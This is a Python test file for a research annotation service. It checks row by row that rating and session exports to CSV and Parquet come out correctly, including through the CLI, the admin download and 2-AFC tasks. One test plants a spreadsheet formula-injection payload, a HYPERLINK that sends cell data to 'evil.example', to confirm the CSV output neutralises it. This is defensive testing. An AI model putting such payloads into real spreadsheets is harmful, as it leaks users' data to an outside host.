"""The exports, built from real rows on SQLite and PostgreSQL and checked row by row."""

from __future__ import annotations

import csv
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from sqlalchemy import Engine, select, update

from service.cli import fvlab
from service.store.db import unit_of_work
from service.store.images import store
from service.store.models import (
    AnnotationSession,
    Annotator,
    CatchItem,
    Direction,
    Job,
    Rating,
    Stimulus,
    Study,
    Trial,
)
from service.studies.export import (
    RATINGS_COLUMNS,
    SESSIONS_COLUMNS,
    ExportError,
    ratings_frame,
    sessions_frame,
    write_frame,
)
from tests.conftest import create_schema

T0 = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)


def _token(prefix: str, i: int) -> str:
    return f"{prefix}{i:0{32 - len(prefix)}d}"


def _build(engine: Engine) -> dict[str, int]:
    """Two studies; study 1 has a session with stimulus, catch and practice trials."""
    with unit_of_work(engine) as s:
        pixels = np.zeros((4, 4, 3), dtype=np.uint8)
        image = store(s, pixels)
        job = Job(name="j", model="efficientnet_lite0", layers=["blocks.10"], n_basis=1,
                  n_random=1, seed=1)
        s.add(job)
        s.flush()
        basis = Direction(job_id=job.id, layer="blocks.10", kind="basis", index=0, channel=7,
                          vector=b"\0" * 8, seed=1)
        rand = Direction(job_id=job.id, layer="blocks.10", kind="random", index=0, channel=None,
                         vector=b"\0" * 8, seed=2)
        s.add_all([basis, rand])
        s.flush()
        stim_b = Stimulus(direction_id=basis.id, token=_token("sb", 0),
                          image_sha256=image.sha256, objective=1.0, render_seconds=0.1)
        stim_r = Stimulus(direction_id=rand.id, token=_token("sr", 0),
                          image_sha256=image.sha256, objective=1.0, render_seconds=0.1)
        pos = CatchItem(kind="positive", token=_token("cp", 0), image_sha256=image.sha256,
                        source="photo")
        neg = CatchItem(kind="negative", token=_token("cn", 0), image_sha256=image.sha256,
                        source="noise")
        s.add_all([stim_b, stim_r, pos, neg])
        studies = [Study(name=f"s{i}", slug=f"s{i}", question="?", completion_code="C")
                   for i in (1, 2)]
        s.add_all(studies)
        people = [Annotator(external_id=f"PID{i}", source="prolific") for i in (1, 2)]
        s.add_all(people)
        s.flush()
        sess = AnnotationSession(
            study_id=studies[0].id, annotator_id=people[0].id, token=_token("ss", 1),
            status="completed", started_at=T0, instructions_shown_at=T0 + timedelta(seconds=5),
            instructions_done_at=T0 + timedelta(seconds=50), finished_at=T0 + timedelta(minutes=10),
        )
        other = AnnotationSession(study_id=studies[1].id, annotator_id=people[1].id,
                                  token=_token("ss", 2), started_at=T0)
        s.add_all([sess, other])
        s.flush()
        plan = [  # kind, stimulus, catch item, yes, confidence, label
            ("practice", stim_b.id, None, True, 5, None),
            ("stimulus", stim_b.id, None, True, 4, "dog faces"),
            ("stimulus", stim_r.id, None, False, 2, None),
            ("catch", None, pos.id, True, 5, None),
            ("catch", None, neg.id, True, 3, None),
        ]
        for position, (kind, stim, catch, yes, conf, label) in enumerate(plan):
            trial = Trial(session_id=sess.id, position=position, kind=kind, stimulus_id=stim,
                          catch_item_id=catch, token=_token("tr", position))
            s.add(trial)
            s.flush()
            s.add(Rating(trial_id=trial.id, interpretable=yes, confidence=conf, label=label,
                         rt_ms=1000 + position, server_rt_ms=900 + position,
                         created_at=T0 + timedelta(seconds=position)))
        other_trial = Trial(session_id=other.id, position=0, kind="stimulus",
                            stimulus_id=stim_r.id, token=_token("tr", 99))
        s.add(other_trial)
        s.flush()
        s.add(Rating(trial_id=other_trial.id, interpretable=True, confidence=1, rt_ms=5))
        return {"study": studies[0].id, "other_study": studies[1].id, "session": sess.id,
                "annotator": people[0].id, "job": job.id, "basis": basis.id, "random": rand.id,
                "stim_b": stim_b.id, "stim_r": stim_r.id, "pos": pos.id, "neg": neg.id}


def test_ratings_export_row_by_row(engine: Engine, tmp_path: Path) -> None:
    ids = _build(engine)
    frame = ratings_frame(engine, ids["study"])
    assert tuple(frame.columns) == RATINGS_COLUMNS
    assert RATINGS_COLUMNS[RATINGS_COLUMNS.index("created_at") + 1:] == (
        "task", "reference", "correct", "choice", "annotator_source", "question", "query_gap",
        "server_rt_ms")
    assert len(frame) == 4  # the practice trial is left out
    for fmt in ("csv", "parquet"):
        path = write_frame(frame, tmp_path / f"r.{fmt}", fmt)  # type: ignore[arg-type]
        back = pd.read_csv(path, dtype=str, keep_default_na=False) if fmt == "csv" else (
            pd.read_parquet(path).astype(object).where(lambda d: d.notna(), "").astype(str))
        rows = back.to_dict("records")
        common = {"study_id": str(ids["study"]), "session_id": str(ids["session"]),
                  "annotator_id": str(ids["annotator"]), "task": "rating", "reference": "",
                  "correct": "", "choice": "", "annotator_source": "prolific",
                  "question": "?", "query_gap": ""}
        expected = [
            {**common, "trial_position": "1", "stimulus_id": str(ids["stim_b"]),
             "catch_item_id": "", "direction_id": str(ids["basis"]), "job_id": str(ids["job"]),
             "model": "efficientnet_lite0", "layer": "blocks.10", "condition": "basis",
             "channel": "7", "interpretable": "1", "confidence": "4", "label": "dog faces",
             "rt_ms": "1001", "server_rt_ms": "901",
             "created_at": "2026-01-02T03:04:06.000000Z"},
            {**common, "trial_position": "2", "stimulus_id": str(ids["stim_r"]),
             "catch_item_id": "", "direction_id": str(ids["random"]), "job_id": str(ids["job"]),
             "model": "efficientnet_lite0", "layer": "blocks.10", "condition": "random",
             "channel": "", "interpretable": "0", "confidence": "2", "label": "",
             "rt_ms": "1002", "server_rt_ms": "902",
             "created_at": "2026-01-02T03:04:07.000000Z"},
            {**common, "trial_position": "3", "stimulus_id": "", "catch_item_id": str(ids["pos"]),
             "direction_id": "", "job_id": "", "model": "", "layer": "",
             "condition": "catch_positive", "channel": "", "interpretable": "1",
             "confidence": "5", "label": "", "rt_ms": "1003", "server_rt_ms": "903",
             "created_at": "2026-01-02T03:04:08.000000Z"},
            {**common, "trial_position": "4", "stimulus_id": "", "catch_item_id": str(ids["neg"]),
             "direction_id": "", "job_id": "", "model": "", "layer": "",
             "condition": "catch_negative", "channel": "", "interpretable": "1",
             "confidence": "3", "label": "", "rt_ms": "1004", "server_rt_ms": "904",
             "created_at": "2026-01-02T03:04:09.000000Z"},
        ]
        for row, want in zip(rows, expected, strict=True):
            assert set(want) == set(RATINGS_COLUMNS) - {"rating_id"}
            assert row["rating_id"] != ""
            assert {k: row[k] for k in want} == want, fmt
    assert len(ratings_frame(engine)) == 5  # both studies, still no practice


def test_sessions_export(engine: Engine) -> None:
    ids = _build(engine)
    frame = sessions_frame(engine, ids["study"])
    assert tuple(frame.columns) == SESSIONS_COLUMNS
    row = frame.iloc[0].to_dict()
    assert row["annotator_id"] == ids["annotator"]
    assert row["started_at"] == "2026-01-02T03:04:05.000000Z"
    assert row["finished_at"] == "2026-01-02T03:14:05.000000Z"
    assert row["instructions_seconds"] == 45.0 and row["total_seconds"] == 600.0
    assert row["n_ratings"] == 4 and row["n_catch"] == 2
    assert row["catch_score"] == 0.5  # yes on the positive (right), yes on the negative (wrong)
    assert row["status"] == "completed"
    assert "PID1" not in frame.to_csv()
    everyone = sessions_frame(engine, include_external_ids=True)
    assert list(everyone["annotator_external_id"]) == ["PID1", "PID2"]
    unfinished = everyone.iloc[1]
    assert pd.isna(unfinished["total_seconds"]) and pd.isna(unfinished["catch_score"])


def test_unknown_study_is_an_error(engine: Engine) -> None:
    with pytest.raises(ExportError, match="no study with id 999"):
        ratings_frame(engine, 999)
    with pytest.raises(ExportError, match="no study with id 999"):
        sessions_frame(engine, 999)


def test_cli_export(sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from service.store.db import make_engine

    engine = make_engine(sqlite_url)
    create_schema(engine)
    ids = _build(engine)
    monkeypatch.setenv("FVLAB_DATABASE_URL", sqlite_url)
    runner = CliRunner()
    out = tmp_path / "r.parquet"
    result = runner.invoke(fvlab, ["export", "ratings", "--study", str(ids["study"]), "-o",
                                   str(out)])
    assert result.exit_code == 0, result.output
    assert len(pd.read_parquet(out)) == 4
    sessions = tmp_path / "s.csv"
    result = runner.invoke(fvlab, ["export", "sessions", "--include-external-ids", "-o",
                                   str(sessions)])
    assert result.exit_code == 0, result.output
    assert "PID1" in sessions.read_text()
    missing = tmp_path / "none.csv"
    result = runner.invoke(fvlab, ["export", "ratings", "--study", "999", "-o", str(missing)])
    assert result.exit_code != 0 and "no study with id 999" in result.output
    assert not missing.exists()


HOSTILE = {"label": '=HYPERLINK("http://evil.example/?"&A1,"click")',
           "question": "\t=1+1 is this a thing?"}


def test_csv_cells_cannot_run_as_formulas(sqlite_url: str, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """Text an annotator or researcher typed cannot become a spreadsheet formula in any CSV
    download (the CLI's and the console's both go through write_frame); Parquet keeps it raw."""
    from annotate import create_app
    from service.store.db import make_engine
    from tests.annotate.admin_support import sign_in

    engine = make_engine(sqlite_url)
    create_schema(engine)
    ids = _build(engine)
    with unit_of_work(engine) as s:
        s.execute(update(Rating).where(Rating.label == "dog faces")
                  .values(label=HOSTILE["label"]))
        s.execute(update(Study).where(Study.id == ids["study"])
                  .values(question=HOSTILE["question"]))
        s.execute(update(Annotator).where(Annotator.id == ids["annotator"])
                  .values(external_id="-1"))
    monkeypatch.setenv("FVLAB_DATABASE_URL", sqlite_url)
    files = {}
    for kind in ("ratings", "sessions"):
        for fmt in ("csv", "parquet"):
            out = tmp_path / f"{kind}.{fmt}"
            extra = ["--include-external-ids"] if kind == "sessions" else []
            result = CliRunner().invoke(fvlab, ["export", kind, "--study", str(ids["study"]),
                                                "-o", str(out), *extra])
            assert result.exit_code == 0, result.output
            files[kind, fmt] = out
    app = create_app({"DATABASE_URL": sqlite_url, "TESTING": True, "SECRET_KEY": "x" * 32})
    console = app.test_client()
    sign_in(console, engine)
    download = console.get(f"/admin/studies/{ids['study']}/export/ratings.csv")
    assert download.data == files["ratings", "csv"].read_bytes()
    app.extensions["fvlab_engine"].dispose()

    ratings = list(csv.DictReader(files["ratings", "csv"].open(newline="")))
    assert ratings[0]["label"] == "'" + HOSTILE["label"]
    assert {row["question"] for row in ratings} == {"'" + HOSTILE["question"]}
    sessions = list(csv.DictReader(files["sessions", "csv"].open(newline="")))
    assert sessions[0]["annotator_external_id"] == "'-1"
    for path in (files["ratings", "csv"], files["sessions", "csv"]):
        for row in csv.reader(path.open(newline="")):
            for cell in row:
                assert not cell.startswith(("\t", "\r")), cell
                assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
    raw = pd.read_parquet(files["ratings", "parquet"])
    assert raw["label"].iloc[0] == HOSTILE["label"]
    assert set(raw["question"]) == {HOSTILE["question"]}
    assert set(pd.read_parquet(files["sessions", "parquet"])["annotator_external_id"]) == {"-1"}


def _afc_session(engine: Engine, db_url: str, **options: object) -> tuple[int, list[dict]]:
    """A whole 2-AFC session answered through the site; returns the study id and the answers
    sent, in trial order."""
    from annotate import create_app
    from tests.annotate.afc_support import answer_all_afc, make_afc_study
    from tests.annotate.conftest import SECRET, start

    info = make_afc_study(engine, **options)  # type: ignore[arg-type]
    app = create_app({"DATABASE_URL": db_url, "TESTING": True, "SECRET_KEY": SECRET})
    client = app.test_client()
    start(client, info.slug)
    picks = iter(range(100))

    def choose(trial: dict) -> dict:
        n = next(picks)
        return {"choice": n % 2, "confidence": n % 3 + 1, "rt_ms": 700 + n}

    sent = [body for _, body in answer_all_afc(client, choose)]
    app.extensions["fvlab_engine"].dispose()
    return info.id, sent


def test_2afc_rows_fill_the_appended_columns(engine: Engine, db_url: str) -> None:
    from tests.annotate.afc_support import query_gap

    study_id, sent = _afc_session(engine, db_url, reference_kinds=("synthetic", "none"),
                                  trials=6, catch_every=3, practice=2, k=1, n_basis=3,
                                  n_random=3, references=4, pairs=3)
    frame = ratings_frame(engine, study_id)
    with unit_of_work(engine) as s:
        trials = {t.position: t for t in s.scalars(select(Trial))}
        catch_ids = {t.catch_item_id for t in trials.values() if t.kind == "catch"}
        stimuli = {st.id: st.direction_id for st in s.scalars(select(Stimulus))}
        s.expunge_all()
    assert len(frame) == 6 + 2 and len(sent) == 6 + 2 + 2  # practice rows left out
    for row in frame.to_dict("records"):
        trial = trials[row["trial_position"]]
        body = sent[row["trial_position"]]
        assert (row["task"], row["reference"], row["choice"], row["confidence"], row["rt_ms"]) == (
            "2afc", trial.reference, body["choice"], body["confidence"], body["rt_ms"])
        assert row["correct"] == int(body["choice"] == trial.max_position)
        assert pd.isna(row["interpretable"]) and pd.isna(row["label"])
        if trial.kind == "stimulus":
            assert row["condition"] in ("basis", "random") and pd.isna(row["catch_item_id"])
            assert row["stimulus_id"] == trial.stimulus_id
            assert row["direction_id"] == stimuli[trial.stimulus_id]
            assert row["query_gap"] == pytest.approx(query_gap(trial.query_task, 4))
        else:  # a 2-AFC catch row is shaped as every catch row: a catch item, no stimulus
            assert row["condition"] == "catch_positive" and row["catch_item_id"] in catch_ids
            for column in ("stimulus_id", "direction_id", "job_id", "model", "layer",
                           "channel", "query_gap"):
                assert pd.isna(row[column]), column
    catch = [sent[p]["choice"] == t.max_position for p, t in trials.items() if t.kind == "catch"]
    [session] = sessions_frame(engine, study_id).to_dict("records")
    assert (session["n_catch"], session["catch_score"]) == (2, sum(catch) / 2)


def test_2afc_query_gap_is_empty_without_an_activation_sd(engine: Engine, db_url: str) -> None:
    study_id, _ = _afc_session(engine, db_url, trials=2, catch_every=0, practice=0, k=1,
                               n_basis=1, n_random=1, activation_sd=None)
    frame = ratings_frame(engine, study_id)
    assert len(frame) == 2 and frame["query_gap"].isna().all()
    assert frame["correct"].notna().all()
